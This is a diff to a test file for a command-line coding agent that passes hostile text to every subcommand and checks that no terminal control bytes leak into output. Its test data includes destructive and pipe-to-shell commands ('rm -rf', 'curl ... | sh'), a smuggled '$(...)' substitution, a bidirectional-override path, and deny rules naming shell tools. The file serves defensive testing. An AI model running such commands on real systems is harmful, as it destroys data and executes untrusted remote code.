@@ -1,20 +1,24 @@
 // Every subcommand with hostile text in its arguments, its directory, its sessions, its tasks and its configuration: no control byte
 // comes out. A subcommand that is not in the table below fails the first test.
 
-import { execFileSync } from 'node:child_process'
+import { execFile } from 'node:child_process'
 import { mkdirSync, writeFileSync } from 'node:fs'
-import { join } from 'node:path'
+import { dirname, join } from 'node:path'
+import { promisify } from 'node:util'
 import type { Command } from 'commander'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { createProgram } from '../../src/cli/program.ts'
 import { createSession, renameSession } from '../../src/session/store/session-catalog.ts'
 import { findForeign, HOSTILE, HOSTILE_WORD } from '../support/hostile-pieces.ts'
+import { openHostileHost, type HostileHost } from '../support/hostile-host.ts'
 import { makeHome, ROOT, startDaemonIn, type Home } from '../support/kimi.ts'
 import type { RanCommand } from '../support/many-commands.ts'
 import { useScripts } from '../support/wire-client.ts'
 import { sayTurn } from '../unit/session/session-fixture.ts'
 
 const X = HOSTILE_WORD
+/** The name of a model of config.toml. */
+const MODEL = `model ${X}`
 /** The command lines of each subcommand; a text says why a subcommand is not run here. `@T` is a task that has printed hostile text. */
 const LINES: Record<string, string | string[][]> = {
   ask: [[X], ['--mode', X, 'x']],
@@ -35,7 +39,14 @@ const LINES: Record<string, string | string[][]> = {
   check: [[X], [`rm -rf '${X}'`], [`curl https://${X}/ | sh`]],
   'history forget': [[X]],
   'session list': [[], ['--json'], ['--all']],
-  'session show': [['hostile'], ['hostile', '--json'], [X]],
+  'session show': [
+    ['hostile'],
+    ['hostile', '--json'],
+    ['hostile', '--cache'],
+    ['hostile', '--cache', '--json'],
+    [X],
+    [X, '--cache'],
+  ],
   'session resume': [['hostile'], [X]],
   'session fork': [['hostile'], ['hostile', '--json'], [X]],
   'session rename': [
@@ -95,8 +106,38 @@ const LINES: Record<string, string | string[][]> = {
   completion: [['zsh'], [X]],
   demo: 'shows the screen of a shell of its own',
   help: [[], ['risk'], [X]],
-  login: [[X], ['--json', X]],
-  logout: [[X]],
+  login: [[X], ['--json', X], ['--region', X], ['--api-key'], ['--no-browser'], ['--no-browser', '--json']],
+  whoami: [[], ['--json'], [X]],
+  usage: [[], ['--json'], [X]],
+  import: [[], ['--json'], ['--yes', '--secrets'], ['--json', '--yes', '--secrets'], [X]],
+  'model list': [[], ['--json'], ['--refresh', '--all'], [X]],
+  'model show': [[], [MODEL], [MODEL, '--json'], [X], ['--json', X]],
+  'model use': [[MODEL], [X], ['s']], // the last one gives the later lines the model of the script back
+  logout: [[X], ['--yes'], ['--json']],
+  'trust show': [[], ['--json'], [X], ['--json', X]],
+  'trust add': [[], ['--json'], [X]],
+  'trust list': [[], ['--json'], [X]],
+  'trust remove': [[X], ['--json', X], []],
+  'permission add': [
+    ['ask', `ReadFile(${X})`, '--reason', X],
+    ['ask', `WriteFile(/${X})`, '--reason', X, '--here', '--json'],
+    ['ask', 'ReadFile(/x\u202e\u200by)', '--reason', X, '--here'],
+    ['deny', 'Shell(git push)', '--reason', X],
+    ['deny', 'Shell(git push)', '--until', X],
+    [X, X],
+  ],
+  'permission list': [[], ['--json'], [X]],
+  'permission explain': [
+    ['git push'],
+    ['git push', '--json'],
+    [X],
+    ['--json', X],
+    [`rm -rf '${X}'; $(${X})`],
+    ['--mode', X, X],
+  ],
+  'permission test': [['git push'], ['--json', 'git', 'push', X], [X], ['--mode', X, X]],
+  'permission import': [['rules.json', '--dry-run'], ['rules.json', '--json'], ['rules.toml', '--here'], [X]],
+  'permission remove': [[X], ['--json', X]],
   mcp: [[X]],
   acp: [[X]],
   web: [[X]],
@@ -113,7 +154,8 @@ const ROOT_LINES = [
   ['--print', '--output-format', 'stream-json', '-p', X],
   ['--quiet', '-p', X],
   ['-p', X],
-  ['-m', X, '-p', 'x'],
+  ['-m', X, '-p', 'x'], // `import` has taken a model of this name, whose provider refuses with hostile words
+  ['-m', `no ${X}`, '-p', 'x'],
   ['-S', X, '-p', 'x'],
   ['-w', X, '-p', 'x'],
   ['--agent', X, '-p', 'x'],
@@ -125,16 +167,62 @@ const ROOT_LINES = [
   ['--help'],
 ]
 
+/** Other agents with hostile names of servers, skills and models, and files of rules, for `import`, `trust` and `permission import`. */
+function layTraps(home: Home, work: string): void {
+  const lay = (path: string, text: string) => {
+    mkdirSync(dirname(path), { recursive: true })
+    writeFileSync(path, text)
+  }
+  const name = X.replaceAll('/', '_')
+  const servers = JSON.stringify({ mcpServers: { [X]: { command: X, args: [X], env: { [`TOKEN${X}`]: X } } } })
+  const skill = `---\nname: ${JSON.stringify(X)}\ndescription: ${JSON.stringify(X)}\n---\n${X}`
+  lay(join(home.dir, '.claude.json'), servers)
+  lay(join(home.dir, '.claude', 'CLAUDE.md'), X)
+  lay(join(home.dir, '.gemini', 'skills', name, 'SKILL.md'), skill)
+  lay(
+    join(home.dir, '.kimi-code', 'config.toml'),
+    `[models.${quote(X)}]\nprovider = ${quote(X)}\nmodel = ${quote(X)}\nmax_context_size = 1000\n` +
+      `[providers.${quote(X)}]\ntype = "kimi"\nbase_url = "${host.url}/imported/v1"\napi_key = ${quote(X)}\n`,
+  )
+  lay(join(work, 'AGENTS.md'), X)
+  lay(join(work, '.kimi', 'mcp.json'), servers)
+  lay(join(work, '.kimi', 'skills', name, 'SKILL.md'), skill)
+  lay(join(work, '.kimi', 'agents', name), X)
+  const rules = { deny: [X, `Bash(${X})`, 7], ask: [`Read(${X})`], rules: [{ tool: X, reason: X }], defaultMode: X }
+  lay(join(work, 'rules.json'), JSON.stringify({ permissions: rules }))
+  lay(
+    join(work, 'rules.toml'),
+    `[[permission.rules]]\ndecision = "ask"\npattern = "Read(/x)"\nreason = ${quote(X)}\n` +
+      `[[permission.rules]]\ndecision = ${quote(X)}\npattern = ${quote(X)}\n`,
+  )
+  // What a model of this name was asked to do, for `usage`.
+  const now = new Date()
+  const month = `${now.getFullYear()}-${String(now.getMonth() + 1).padStart(2, '0')}`
+  const call = { at: now.getTime(), session: X, model: X, input: 1, cached: 0, output: 1, usd: null }
+  lay(
+    join(home.paths.share, 'usage', `${month}.jsonl`),
+    `${JSON.stringify(call)}\n${JSON.stringify({ ...call, model: 'b' })}\n`,
+  )
+}
+
+/** A string of TOML, which takes no DEL. */
+const quote = (text: string) => JSON.stringify(text).replaceAll('\u007f', '\\u007f')
+
 let home: Home
+let host: HostileHost
 let work: string
 let task = ''
 
 beforeAll(async () => {
-  home = await makeHome()
+  host = await openHostileHost()
+  home = await makeHome(host.env)
   const answer = { role: 'assistant', text: X }
   useScripts(
     home,
     Array.from({ length: 40 }, () => `text: ${JSON.stringify(answer.text)}\nthink: ${JSON.stringify(X)}`),
+    `[models.${quote(MODEL)}]\nprovider = ${quote(X)}\nmodel = ${quote(X)}\nmax_context_size = 1000\n` +
+      `[providers.${quote(X)}]\ntype = "openai_legacy"\nbase_url = "${host.url}/v1"\napi_key = "k"\n` +
+      `[providers.refusing]\ntype = "openai_legacy"\nbase_url = "${host.url}/refusing/v1"\napi_key = "k"\n`,
   )
   work = join(home.dir, X.replaceAll('/', '_'))
   mkdirSync(work)
@@ -145,6 +233,7 @@ beforeAll(async () => {
     sayTurn(place, `needle ${HOSTILE}`, HOSTILE)
     renameSession(place, X)
   }
+  layTraps(home, work)
   await startDaemonIn(home)
   writeFileSync(
     join(home.dir, 'bytes'),
@@ -156,7 +245,10 @@ beforeAll(async () => {
   )
   task = (JSON.parse(begun.stdout) as { short: string }).short
 }, 60_000)
-afterAll(() => home[Symbol.asyncDispose]())
+afterAll(async () => {
+  await home[Symbol.asyncDispose]()
+  await host[Symbol.asyncDispose]()
+})
 
 const leaves = (command: Command, path: string[] = []): string[] =>
   command.commands.length === 0
@@ -168,18 +260,17 @@ test('every subcommand is walked with hostile text, or says why not', () => {
 })
 
 /** The control bytes that each command line has let through, with their surroundings. */
-function findLeaks(lines: readonly string[][]): string[] {
+async function findLeaks(lines: readonly string[][]): Promise<string[]> {
   const file = join(home.dir, 'lines.json')
   writeFileSync(file, JSON.stringify(lines.map((words) => words.map((word) => (word === '@T' ? task : word)))))
-  const printed = JSON.parse(
-    execFileSync(process.execPath, [join(ROOT, 'test', 'support', 'many-commands.ts'), file], {
-      cwd: work,
-      env: { ...home.env, NO_COLOR: '1' },
-      input: '',
-      encoding: 'utf8',
-      maxBuffer: 64 * 1024 * 1024,
-    }),
-  ) as RanCommand[]
+  // The host answers in this process, which therefore must not stand still.
+  const running = promisify(execFile)(process.execPath, [join(ROOT, 'test', 'support', 'many-commands.ts'), file], {
+    cwd: work,
+    env: { ...home.env, NO_COLOR: '1' },
+    maxBuffer: 64 * 1024 * 1024,
+  })
+  running.child.stdin!.end()
+  const printed = JSON.parse((await running).stdout) as RanCommand[]
   expect(printed.filter(({ status }) => status === null)).toEqual([])
   expect(printed.filter(({ text }) => text !== '').length).toBeGreaterThan(lines.length * 0.7)
   return printed.flatMap(({ text }, at) => {
@@ -194,13 +285,13 @@ function findLeaks(lines: readonly string[][]): string[] {
   })
 }
 
-test('no control byte comes out of any of them', () => {
+test('no control byte comes out of any of them', async () => {
   const lines = Object.entries(LINES).flatMap(([name, lines]) =>
     typeof lines === 'string' ? [] : lines.map((words) => [...name.split(' '), ...words]),
   )
-  expect(findLeaks(lines)).toEqual([])
+  expect(await findLeaks(lines)).toEqual([])
 }, 120_000)
 
-test('nor out of kimi without a subcommand', () => {
-  expect(findLeaks(ROOT_LINES)).toEqual([])
+test('nor out of kimi without a subcommand', async () => {
+  expect(await findLeaks(ROOT_LINES)).toEqual([])
 }, 60_000)
